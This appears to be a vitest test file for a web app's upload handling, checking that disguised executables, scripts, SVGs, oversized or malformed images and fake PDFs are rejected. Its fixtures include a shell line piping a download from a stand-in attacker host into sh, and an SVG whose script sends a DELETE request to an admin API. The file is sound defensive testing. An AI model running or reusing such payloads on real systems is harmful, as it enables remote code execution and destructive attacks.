import { existsSync } from 'node:fs'
import path from 'node:path'

import { PDFDocument } from 'pdf-lib'
import sharp from 'sharp'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'

import { useTestDatabase, type TestDatabase } from '../../../../tests/support/db'
import {
  MAX_IMAGE_BYTES,
  UploadRejected,
  acceptDocumentUpload,
  acceptImageUpload,
  avifProgress,
  readLimitedBody,
  uploadRenditionsSettled,
} from './uploads'

let db: TestDatabase
beforeAll(async () => {
  db = await useTestDatabase()
})
afterAll(async () => {
  await uploadRenditionsSettled()
  await db?.dispose()
})

/** A real photo-like PNG: a gradient, so every encoder has something to do. */
async function png(width = 800, height = 600): Promise<Buffer> {
  const pixels = Buffer.alloc(width * height * 3)
  for (let i = 0; i < pixels.length; i += 3) {
    pixels[i] = (i / 3) % 255
    pixels[i + 1] = Math.floor(i / 3 / width) % 255
    pixels[i + 2] = 128
  }
  return sharp(pixels, { raw: { width, height, channels: 3 } })
    .png()
    .toBuffer()
}

async function rejection(promise: Promise<unknown>): Promise<UploadRejected> {
  const error = await promise.then(
    () => undefined,
    (e: unknown) => e,
  )
  expect(error).toBeInstanceOf(UploadRejected)
  return error as UploadRejected
}

describe('image uploads', () => {
  it('keeps a PNG, makes its WebP renditions at once and its AVIF ones in the background', async () => {
    const uploaded = await acceptImageUpload(await png())
    expect(uploaded.source).toMatch(/^[0-9a-f]{24}\.png$/)
    expect(uploaded).toMatchObject({ width: 640, height: 480 })
    // The local driver keeps the layout sites have always had.
    const uploads = path.join(db.dataDir, 'uploads')
    expect(existsSync(path.join(uploads, 'originals', uploaded.source))).toBe(true)
    expect(existsSync(path.join(uploads, 'images', uploaded.preview))).toBe(true)
    expect(uploaded.avif.total).toBe(2)
    await uploadRenditionsSettled()
    expect(await avifProgress(uploaded.source)).toEqual({ done: 2, total: 2 })
  })

  it('refuses an executable renamed to .png (the content is checked, not the name)', async () => {
    const elf = Buffer.concat([Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]), Buffer.alloc(4096, 0x90)])
    const error = await rejection(acceptImageUpload(elf))
    expect(error.message).toBe('This file is a program, not an image (its content was checked, not its name).')
    expect(error.status).toBe(415)
  })

  it('refuses a shell script renamed to .png', async () => {
    const script = Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n')
    expect((await rejection(acceptImageUpload(script))).message).toMatch(/^This file is a script, not an image/)
  })

  it('refuses an image over the size limit, saying the limit', async () => {
    const huge = Buffer.concat([await png(), Buffer.alloc(MAX_IMAGE_BYTES)])
    const error = await rejection(acceptImageUpload(huge))
    expect(error.status).toBe(413)
    expect(error.message).toMatch(/the limit is 10 MB/)
  })

  it('refuses an SVG that carries script (every SVG is refused)', async () => {
    const svg = Buffer.from(
      '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="800" height="600">' +
        '<script>fetch("/api/admin/products",{method:"DELETE"})</script><rect width="800" height="600"/></svg>',
    )
    const error = await rejection(acceptImageUpload(svg))
    expect(error.message).toBe(
      'SVG images are not accepted, because an SVG file can carry script. Export the drawing as PNG or WebP.',
    )
  })

  it('refuses a truncated image and one too small to make renditions from', async () => {
    const whole = await png()
    expect((await rejection(acceptImageUpload(whole.subarray(0, 200)))).message).toMatch(/could not be read/)
    expect((await rejection(acceptImageUpload(await png(200, 150)))).message).toBe(
      'The image is 200 px wide; it must be at least 320 px wide.',
    )
  })
})

describe('document uploads', () => {
  it('keeps a real PDF and counts its pages', async () => {
    const doc = await PDFDocument.create()
    doc.addPage()
    doc.addPage()
    const uploaded = await acceptDocumentUpload(Buffer.from(await doc.save()))
    expect(uploaded.file).toMatch(/^[0-9a-f]{24}\.pdf$/)
    expect(uploaded.pages).toBe(2)
  })

  it('refuses a text file named .pdf', async () => {
    const error = await rejection(acceptDocumentUpload(Buffer.from('Quick start guide\n\n1. Charge the battery.')))
    expect(error.message).toBe('This file is not a PDF (its content was checked, not its name). Save it as PDF first.')
  })

  it('refuses a file that starts like a PDF but does not parse', async () => {
    const fake = Buffer.from('%PDF-1.7\nthis is not really a pdf at all\n')
    expect((await rejection(acceptDocumentUpload(fake))).message).toMatch(/could not be read/)
  })
})

describe('request body limit', () => {
  it('refuses a declared length over the limit before reading', async () => {
    const request = new Request('http://x/upload', {
      method: 'POST',
      body: 'x',
      headers: { 'content-length': String(50 * 1024 * 1024) },
    })
    expect((await rejection(readLimitedBody(request, 1024))).status).toBe(413)
  })

  it('cuts off a streamed body that grows past the limit', async () => {
    const stream = new ReadableStream<Uint8Array>({
      pull(controller) {
        controller.enqueue(new Uint8Array(64 * 1024))
      },
    })
    const request = new Request('http://x/upload', { method: 'POST', body: stream, duplex: 'half' } as RequestInit)
    expect((await rejection(readLimitedBody(request, 1024 * 1024))).status).toBe(413)
  })
})
